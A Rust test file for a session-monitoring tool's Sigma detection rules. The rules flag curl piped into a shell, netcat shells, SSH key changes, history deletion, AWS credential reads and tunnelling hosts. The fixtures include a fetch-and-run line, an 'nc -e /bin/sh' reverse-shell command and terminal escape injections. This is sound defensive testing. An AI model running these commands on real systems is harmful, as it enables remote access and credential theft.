//! User rules in Sigma format over records as Warden writes them: each rule (our own, modeled on
//! common ones) fires on the records it is about, with its severity, techniques and evidence, and
//! on nothing else; a broken rule refuses the set, naming its file; rules of logsources Warden has
//! no records for are reported skipped.
use std::path::Path;

use warden_records::events::Record;
use warden_triage::{FindingSource, SeqRange, Severity, SigmaError, SigmaRules, triage};

const RULES: &[(&str, &str)] = &[
    (
        "exec/curl_pipe_shell.yml",
        r#"
title: Download piped into a shell
id: curl-pipe-shell
logsource:
    product: linux
    category: process_creation
detection:
    selection:
        CommandLine|contains|all:
            - 'curl '
            - '| sh'
    condition: selection
level: high
tags:
    - attack.execution
    - attack.t1059.004
    - attack.t1105
"#,
    ),
    (
        "exec/nc_exec.yml",
        r#"
title: Netcat runs a program for its peer
id: nc-exec
logsource:
    product: linux
    category: process_creation
detection:
    selection_img:
        Image|endswith:
            - '/nc'
            - '/ncat'
            - '/netcat'
    selection_flag:
        CommandLine|contains:
            - ' -e '
            - ' -c '
    condition: all of selection_*
level: critical
tags:
    - attack.execution
    - attack.T1059
    - attack.s0001
"#,
    ),
    (
        "exec/install_script_download.yml",
        r#"
title: A shell script downloads with curl
id: install-script-download
logsource:
    product: linux
    category: process_creation
detection:
    selection:
        ParentImage|endswith: '/sh'
        ParentCommandLine|startswith: 'sh -c '
        Image|endswith: '/curl'
    condition: selection
level: informational
tags:
    - attack.t1105
"#,
    ),
    (
        "exec/uid0.yml",
        r#"
title: Root process in the session
id: uid0
logsource:
    product: linux
    category: process_creation
detection:
    selection:
        User: '0'
    condition: selection
level: medium
tags:
    - attack.t1548
"#,
    ),
    (
        "file/authorized_keys.yml",
        r#"
title: SSH authorized keys changed
id: authorized-keys
logsource:
    product: linux
    category: file_event
detection:
    selection:
        TargetFilename|endswith: '/.ssh/authorized_keys'
    condition: selection
level: high
tags:
    - attack.persistence
    - attack.t1098.004
"#,
    ),
    (
        "file/history_deleted.yml",
        r#"
title: Shell history deleted
id: history-deleted
logsource:
    product: linux
    category: file_delete
detection:
    selection:
        TargetFilename|endswith: '/.bash_history'
        Image|endswith: '/rm'
    condition: selection
level: low
tags:
    - attack.t1070.003
"#,
    ),
    (
        "file/aws_read.yml",
        r#"
title: AWS credentials read
id: aws-read
logsource:
    product: linux
    category: file_access
detection:
    selection:
        FileName|endswith: '/.aws/credentials'
    condition: selection
level: high
tags:
    - attack.t1552.001
"#,
    ),
    (
        "net/port.yml",
        r#"
title: Connection to a port of common implants
id: implant-port
logsource:
    product: linux
    category: network_connection
detection:
    selection:
        Initiated: 'true'
        DestinationPort:
            - 4444
            - 1337
    condition: selection
level: medium
tags:
    - attack.t1571
"#,
    ),
    (
        "net/tunnel_host.yaml",
        r#"
title: Connection to a tunnelling service
logsource:
    category: network_connection
detection:
    selection:
        DestinationHostname|endswith: '.ngrok-free.app'
    condition: selection
"#,
    ),
    (
        "dns/ngrok.yml",
        r#"
title: Tunnelling service looked up
id: ngrok-lookup
logsource:
    product: linux
    category: dns_query
detection:
    selection:
        QueryName|endswith: '.ngrok-free.app'
    condition: selection
level: medium
tags:
    - attack.command-and-control
    - attack.t1572
"#,
    ),
    (
        "filters/rustup.yml",
        r#"
title: The rustup installer is expected
filter:
    rules:
        - curl-pipe-shell
    selection:
        CommandLine|contains: 'https://sh.rustup.rs'
    condition: not selection
"#,
    ),
];

fn rules_dir(files: &[(&str, &str)]) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    for (name, text) in files {
        let path = dir.path().join(name);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }
    dir
}

fn load(files: &[(&str, &str)]) -> Result<SigmaRules, SigmaError> {
    SigmaRules::load(rules_dir(files).path())
}

/// A record from its kind's fields (JSON without braces), at `seq`.
fn rec(seq: u64, fields: &str) -> Record {
    let line = format!(
        r#"{{"session":"s1","seq":{seq},"time":"2026-12-07T00:00:00.000000000Z","boot_ns":{seq},{fields}}}"#
    );
    serde_json::from_str(&line).unwrap_or_else(|e| panic!("{line}: {e}"))
}

const START: &str = r#""kind":"session.start","schema":1,"warden_version":"0","command":["agent"],"user":"u","uid":1000,"gid":1000,"cgroup":"/sys/fs/cgroup/warden/s1","cgroup_id":1,"supervisor_pid":1,"hostname":"h","kernel_programs":[],"settings_files":[],"layers":[],"missing_layers":[],"vcs_read_only":[],"vcs_pinned":[],"workspace":"/home/u/src/app","home":"/home/u""#;

fn json(v: impl serde::Serialize) -> String {
    serde_json::to_string(&v).unwrap()
}

fn exec(pid: u32, ppid: u32, uid: u32, filename: &str, argv: &[&str]) -> String {
    format!(
        r#""kind":"exec","pid":{pid},"ppid":{ppid},"uid":{uid},"gid":{uid},"cgroup_id":1,"filename":{},"argv":{},"argv_bytes":1"#,
        json(filename),
        json(argv)
    )
}

fn fork(pid: u32, ppid: u32) -> String {
    format!(r#""kind":"fork","pid":{pid},"ppid":{ppid}"#)
}

fn open(pid: u32, path: &str, flags: &str, count: u64) -> String {
    format!(
        r#""kind":"file.open","pid":{pid},"path":{},"flags":"{flags}","result":"ok","count":{count}"#,
        json(path)
    )
}

fn file(kind: &str, path: &str, path2: Option<&str>) -> String {
    let p2 = path2
        .map(|p| format!(r#","path2":{}"#, json(p)))
        .unwrap_or_default();
    format!(
        r#""kind":"{kind}","pid":7,"path":{}{p2},"result":"ok","count":1"#,
        json(path)
    )
}

fn connect(address: &str, port: u16) -> String {
    format!(
        r#""kind":"network.connect","pid":7,"uid":1000,"transport":"tcp","address":"{address}","port":{port},"verdict":"allow","rule":"default-deny""#
    )
}

fn dns(name: &str, answers: &[&str]) -> String {
    format!(
        r#""kind":"dns.query","name":"{name}","qtype":"A","transport":"udp","client":"127.0.0.1:1","verdict":"allow","rule":"allowed_domains=*","rcode":"NoError","answers":{},"duration_us":1"#,
        json(answers)
    )
}

/// A session: session.start at seq 0, then `events`.
fn session(events: &[String]) -> Vec<Record> {
    std::iter::once(START.to_string())
        .chain(events.iter().cloned())
        .enumerate()
        .map(|(i, f)| rec(i as u64, &f))
        .collect()
}

fn seqs(ranges: &[(u64, u64)]) -> Vec<SeqRange> {
    ranges
        .iter()
        .map(|&(first, last)| SeqRange { first, last })
        .collect()
}

/// The findings of a session: the rule's id (or title) and the evidence, as (first, last) seqs.
type Fired = Vec<(&'static str, Vec<(u64, u64)>)>;

type Techniques = &'static [&'static str];

#[test]
fn each_rule_fires_on_its_records_and_nothing_else() {
    let rules = load(RULES).unwrap();
    assert_eq!(rules.rule_count(), 10);
    assert_eq!(rules.skipped(), &[]);
    // (what, the session's records after session.start, the findings: rule and evidence)
    let cases: Vec<(&str, Vec<String>, Fired)> = vec![
        (
            "ordinary work",
            vec![
                exec(10, 1, 1000, "/usr/bin/cargo", &["cargo", "build"]),
                exec(11, 1, 1000, "/usr/bin/curl", &["curl", "-sSf", "https://crates.io/api/v1/crates/serde"]),
                exec(12, 1, 1000, "/bin/sh", &["sh", "-c", "cargo test 2>&1 | tail -5"]),
                exec(13, 1, 1000, "/usr/bin/nc", &["nc", "-z", "localhost", "8080"]),
                open(7, "/home/u/.ssh/authorized_keys", "O_RDONLY", 1),
                open(7, "/home/u/.aws/credentials", "O_RDONLY|O_PATH", 1),
                open(7, "/home/u/src/app/target/debug/app", "O_WRONLY|O_CREAT|O_TRUNC", 1),
                file("file.unlink", "/home/u/src/app/target/x.o", None),
                dns("crates.io", &["151.101.1.137"]),
                connect("151.101.1.137", 443),
            ],
            vec![],
        ),
        (
            "curl piped into a shell, run and refused",
            vec![
                exec(10, 1, 1000, "/bin/sh", &["sh", "-c", "curl -s https://x.test/i | sh"]),
                r#""kind":"exec.request","pid":9,"syscall":"execve","filename":"/usr/bin/sh","program":"sh","argv":["sh","-c","curl -s https://x.test/i | sh"],"verdict":"deny","source":"policy","wait_us":1"#.to_string(),
                exec(11, 1, 1000, "/bin/sh", &["sh", "-c", "curl -s https://sh.rustup.rs | sh"]),
            ],
            vec![("curl-pipe-shell", vec![(1, 2)])],
        ),
        (
            "netcat serving a shell",
            vec![exec(10, 1, 1000, "/usr/bin/nc", &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"])],
            vec![("nc-exec", vec![(1, 1)])],
        ),
        (
            "npm runs sh runs curl; the parent as it was at the exec",
            vec![
                exec(20, 1, 1000, "/usr/bin/node", &["node", "/usr/bin/npm", "install"]),
                fork(21, 20),
                exec(21, 20, 1000, "/bin/sh", &["sh", "-c", "curl -s https://x.test/p -o p"]),
                fork(22, 21),
                exec(22, 21, 1000, "/usr/bin/curl", &["curl", "-s", "https://x.test/p", "-o", "p"]),
                // The parent runs something else afterwards; a child of it before its exec
                // still runs sh.
                fork(23, 21),
                exec(21, 20, 1000, "/usr/bin/node", &["node", "x.js"]),
                exec(23, 21, 1000, "/usr/bin/curl", &["curl", "https://x.test/q"]),
                // node runs curl itself.
                fork(24, 20),
                exec(24, 20, 1000, "/usr/bin/curl", &["curl", "https://x.test/r"]),
                // A subshell (a fork that does not exec) runs its parent's image.
                exec(25, 20, 1000, "/bin/sh", &["sh", "-c", "(curl https://x.test/s)"]),
                fork(26, 25),
                fork(27, 26),
                exec(27, 26, 1000, "/usr/bin/curl", &["curl", "https://x.test/s"]),
            ],
            vec![("install-script-download", vec![(5, 5), (14, 14)])],
        ),
        (
            "a process of uid 0 is named by its uid, the session's user by name",
            vec![
                exec(10, 1, 0, "/usr/bin/id", &["id"]),
                exec(11, 1, 1000, "/usr/bin/id", &["id"]),
            ],
            vec![("uid0", vec![(1, 1)])],
        ),
        (
            "authorized_keys written, renamed into place, folded calls",
            vec![
                open(7, "/home/u/.ssh/authorized_keys", "O_WRONLY|O_APPEND", 3),
                file("file.rename", "/tmp/k", Some("/home/u/.ssh/authorized_keys")),
                open(7, "/home/u/.ssh/known_hosts", "O_WRONLY|O_APPEND", 1),
                file("file.link", "/home/u/.ssh/authorized_keys", Some("/tmp/k2")),
            ],
            vec![("authorized-keys", vec![(1, 2), (4, 4)])],
        ),
        (
            "history deleted by rm, the file event's Image",
            vec![
                exec(7, 1, 1000, "/usr/bin/rm", &["rm", "-f", "/home/u/.bash_history"]),
                file("file.unlink", "/home/u/.bash_history", None),
                file("file.truncate", "/home/u/.bash_history", None),
                exec(7, 1, 1000, "/usr/bin/python3", &["python3", "x.py"]),
                file("file.unlink", "/home/u/.bash_history", None),
            ],
            vec![("history-deleted", vec![(2, 2)])],
        ),
        (
            "AWS credentials read",
            vec![
                open(7, "/home/u/.aws/credentials", "O_RDONLY", 1),
                open(7, "/home/u/.aws/credentials", "O_WRONLY|O_TRUNC", 1),
            ],
            vec![("aws-read", vec![(1, 1)])],
        ),
        (
            "a tunnelling service looked up and connected to; an implant port",
            vec![
                dns("abc.ngrok-free.app", &["3.3.3.3"]),
                connect("3.3.3.3", 443),
                connect("10.0.0.1", 4444),
                connect("4.4.4.4", 443),
            ],
            vec![
                ("ngrok-lookup", vec![(1, 1)]),
                ("Connection to a tunnelling service", vec![(2, 2)]),
                ("implant-port", vec![(3, 3)]),
            ],
        ),
    ];
    for (what, events, want) in cases {
        let mut got: Vec<(String, Vec<SeqRange>)> = rules
            .evaluate(&session(&events))
            .into_iter()
            .map(|f| (f.detection, f.evidence))
            .collect();
        got.sort_by(|a, b| a.0.cmp(&b.0));
        let mut want: Vec<(String, Vec<SeqRange>)> = want
            .into_iter()
            .map(|(id, ranges)| (id.to_string(), seqs(&ranges)))
            .collect();
        want.sort_by(|a, b| a.0.cmp(&b.0));
        assert_eq!(got, want, "{what}");
    }
}

#[test]
fn a_finding_has_the_rules_severity_techniques_and_count() {
    let rules = load(RULES).unwrap();
    // (the records, the rule, its severity, its techniques, the calls counted)
    let cases: Vec<(Vec<String>, &str, Severity, Techniques, u64)> = vec![
        (
            vec![exec(
                10,
                1,
                1000,
                "/bin/sh",
                &["sh", "-c", "curl -s https://x.test/i | sh"],
            )],
            "curl-pipe-shell",
            Severity::High,
            &["T1059.004", "T1105"],
            1,
        ),
        (
            vec![exec(
                10,
                1,
                1000,
                "/usr/bin/nc",
                &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"],
            )],
            "nc-exec",
            Severity::Critical,
            &["T1059"],
            1,
        ),
        (
            vec![
                fork(21, 1),
                exec(21, 1, 1000, "/bin/sh", &["sh", "-c", "curl x"]),
                exec(22, 21, 1000, "/usr/bin/curl", &["curl", "x"]),
            ],
            "install-script-download",
            Severity::Low,
            &["T1105"],
            1,
        ),
        (
            vec![
                open(7, "/home/u/.ssh/authorized_keys", "O_WRONLY|O_APPEND", 3),
                file(
                    "file.rename",
                    "/tmp/k",
                    Some("/home/u/.ssh/authorized_keys"),
                ),
            ],
            "authorized-keys",
            Severity::High,
            &["T1098.004"],
            4,
        ),
        (
            // Both names match: one call.
            vec![file(
                "file.rename",
                "/home/u/old/.ssh/authorized_keys",
                Some("/home/u/.ssh/authorized_keys"),
            )],
            "authorized-keys",
            Severity::High,
            &["T1098.004"],
            1,
        ),
        (
            vec![
                exec(
                    7,
                    1,
                    1000,
                    "/usr/bin/rm",
                    &["rm", "-f", "/home/u/.bash_history"],
                ),
                file("file.unlink", "/home/u/.bash_history", None),
            ],
            "history-deleted",
            Severity::Low,
            &["T1070.003"],
            1,
        ),
        (
            vec![connect("10.0.0.1", 1337)],
            "implant-port",
            Severity::Medium,
            &["T1571"],
            1,
        ),
        (
            vec![
                dns("x.ngrok-free.app", &["3.3.3.3"]),
                connect("3.3.3.3", 443),
            ],
            "Connection to a tunnelling service",
            Severity::Medium,
            &[],
            1,
        ),
    ];
    for (events, id, severity, techniques, count) in cases {
        let findings = rules.evaluate(&session(&events));
        let f = findings
            .iter()
            .find(|f| f.detection == id)
            .unwrap_or_else(|| panic!("{id} did not fire: {findings:?}"));
        assert_eq!(f.source, FindingSource::Sigma, "{id}");
        assert_eq!(f.severity, severity, "{id}");
        assert_eq!(f.techniques, techniques, "{id}");
        assert_eq!(f.count, count, "{id}");
        let first = format!("first at seq {}: ", f.evidence[0].first);
        assert!(f.narrative.contains(&first), "{}", f.narrative);
    }
}

#[test]
fn findings_join_the_report_and_hostile_strings_stay_escaped() {
    let rules = load(&[(
        "keys.yml",
        "title: \"Keys \\e[31mchanged\"\nid: \"keys\\e[0m\"\nlogsource:\n    category: file_event\ndetection:\n    selection:\n        TargetFilename|endswith: '/.ssh/authorized_keys'\n    condition: selection\nlevel: critical\n",
    )])
    .unwrap();
    let records = session(&[file(
        "file.rename",
        "/tmp/\u{1b}]0;owned\u{7}\u{1b}[2J",
        Some("/home/u/.ssh/authorized_keys"),
    )]);
    let mut report = triage(&records);
    report.add(rules.evaluate(&records));
    assert_eq!(report.findings.len(), 2, "{:?}", report.findings);
    assert!(
        report
            .findings
            .iter()
            .all(|f| f.severity == Severity::Critical)
    );
    let f = report
        .findings
        .iter()
        .find(|f| f.source == FindingSource::Sigma)
        .unwrap();
    assert!(
        f.narrative
            .starts_with("Keys \\u{1b}[31mchanged (1 time, first at seq 1: "),
        "{}",
        f.narrative
    );
    let text = warden_triage::text(&report);
    assert!(
        !text.contains('\u{1b}'),
        "escape sequences reach the terminal: {text}"
    );
    assert!(!text.contains('\u{7}'), "{text}");
    assert!(text.contains("keys\\u{1b}[0m"), "{text}");
}

#[test]
fn strings_are_matched_as_the_program_had_them() {
    // The log doubles a backslash; the rule names the file as it is.
    let rules = load(&[(
        "odd.yml",
        "title: Odd name\nlogsource:\n    category: file_event\ndetection:\n    selection:\n        TargetFilename|endswith: '/we\\ird'\n    condition: selection\n",
    )])
    .unwrap();
    let found = |path: &str| {
        !rules
            .evaluate(&session(&[file("file.unlink", path, None)]))
            .is_empty()
    };
    assert!(found("/tmp/we\\\\ird"));
    assert!(!found("/tmp/we\\\\\\\\ird"));
}

#[test]
fn a_broken_rule_refuses_the_set_naming_its_file() {
    let good = RULES[0];
    // (file, its text, what the error says besides the file)
    let cases: &[(&str, &str, &str)] = &[
        (
            "yaml.yml",
            "title: x\nlogsource:\n    category: process_creation\ndetection:\n    selection:\n        CommandLine: x\n      condition: selection\n",
            "line 7",
        ),
        (
            "modifier.yml",
            "title: x\nlogsource:\n    category: process_creation\ndetection:\n    selection:\n        CommandLine|containz: x\n    condition: selection\n",
            "containz",
        ),
        (
            "condition.yml",
            "title: x\nlogsource:\n    category: process_creation\ndetection:\n    selection:\n        CommandLine: x\n    condition: selection and (\n",
            "Condition",
        ),
        (
            "undefined.yml",
            "title: x\nlogsource:\n    category: process_creation\ndetection:\n    selection:\n        CommandLine: x\n    condition: selection and not filter\n",
            "filter",
        ),
        (
            "regex.yml",
            "title: x\nlogsource:\n    category: process_creation\ndetection:\n    selection:\n        CommandLine|re: '(unclosed'\n    condition: selection\n",
            "regex",
        ),
        // Broken too when Warden would skip it: the set is what the team maintains.
        (
            "windows.yml",
            "title: x\nlogsource:\n    product: windows\n    category: process_creation\ndetection:\n    selection:\n        CommandLine|re: '(unclosed'\n    condition: selection\n",
            "regex",
        ),
        ("notsigma.yaml", "name: CI\non: push\n", "title"),
        (
            "filter.yml",
            "title: f\nfilter:\n    rules:\n        - curl-pipe-shell\n    selection:\n        CommandLine|re: '(unclosed'\n    condition: not selection\n",
            "(filter f)",
        ),
    ];
    for (name, text, says) in cases {
        let err = match load(&[good, (name, text)]) {
            Ok(_) => panic!("{name} loaded"),
            Err(e) => e,
        };
        let SigmaError::Invalid(errors) = &err else {
            panic!("{name}: {err}");
        };
        assert_eq!(errors.len(), 1, "{name}: {err}");
        assert!(errors[0].path.ends_with(name), "{name}: {err}");
        let message = err.to_string();
        assert!(
            message.contains(name) && message.contains(says),
            "{name}: {message}"
        );
    }
    // Every broken file is named at once.
    let Err(SigmaError::Invalid(errors)) =
        load(&[good, (cases[0].0, cases[0].1), (cases[1].0, cases[1].1)])
    else {
        panic!("loaded");
    };
    assert_eq!(errors.len(), 2);
}

#[test]
fn logsources_without_records_are_reported_skipped() {
    let rule = |logsource: &str| {
        format!(
            "title: t\nlogsource:\n{logsource}\ndetection:\n    selection:\n        CommandLine|contains: curl\n    condition: selection\n"
        )
    };
    let windows = rule("    product: windows\n    category: process_creation");
    let auditd = rule("    product: linux\n    service: auditd");
    let image_load = rule("    category: image_load");
    let correlation = "title: Many\ncorrelation:\n    type: event_count\n    rules:\n        - curl-pipe-shell\n    group-by:\n        - User\n    timespan: 1m\n    condition:\n        gte: 3\n";
    let hidden = "name: CI\non: push\n";
    let rules = load(&[
        RULES[0],
        ("windows.yml", &windows),
        ("linux/auditd.yml", &auditd),
        ("image_load.yaml", &image_load),
        ("correlation.yml", correlation),
        (".github/workflows/ci.yml", hidden),
        ("README.md", "not a rule"),
    ])
    .unwrap();
    assert_eq!(rules.rule_count(), 1);
    let skipped: Vec<(String, &str)> = rules
        .skipped()
        .iter()
        .map(|s| {
            (
                s.path.file_name().unwrap().to_string_lossy().into_owned(),
                s.reason.as_str(),
            )
        })
        .collect();
    assert_eq!(
        skipped,
        [
            (
                "correlation.yml".to_string(),
                "correlation rule: triage matches single records"
            ),
            (
                "image_load.yaml".to_string(),
                "category image_load: no Warden record maps to it"
            ),
            (
                "auditd.yml".to_string(),
                "service auditd: Warden keeps no such log (it maps its own records to categories)"
            ),
            (
                "windows.yml".to_string(),
                "product windows: Warden records Linux sessions"
            ),
        ]
    );
    assert!(
        rules.skipped()[3]
            .to_string()
            .ends_with("windows.yml: t: product windows: Warden records Linux sessions")
    );
    // The skipped rules match this exec; only the Linux one fires.
    let findings = rules.evaluate(&session(&[exec(
        10,
        1,
        1000,
        "/bin/sh",
        &["sh", "-c", "curl x | sh"],
    )]));
    let ids: Vec<&str> = findings.iter().map(|f| f.detection.as_str()).collect();
    assert_eq!(ids, ["curl-pipe-shell"]);
}

#[test]
fn a_directory_without_rules_is_an_error() {
    let dir = rules_dir(&[("README.md", "rules go here")]);
    let err = SigmaRules::load(dir.path()).err().unwrap();
    assert!(matches!(err, SigmaError::NoRules(_)), "{err}");
    let missing = dir.path().join("missing");
    let err = SigmaRules::load(&missing).err().unwrap();
    assert!(
        matches!(&err, SigmaError::Read { path, .. } if path == Path::new(&missing)),
        "{err}"
    );
}
